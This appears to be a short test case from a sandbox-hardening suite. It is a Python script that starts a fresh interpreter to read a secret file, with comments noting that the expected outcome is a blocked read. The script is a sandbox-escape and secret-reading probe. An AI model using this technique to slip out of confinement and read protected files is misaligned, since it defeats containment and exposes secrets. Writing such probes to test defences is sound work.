"""Starts another Python, in the hope that only this one is shut in."""
# proof: open
# reason: ended with (CalledProcessError|PermissionError|FileNotFoundError)
import subprocess
import sys

print("BREACH", subprocess.check_output([sys.executable, "-S", "-c", f"print(open({PREY['secret']!r}).read())"]))
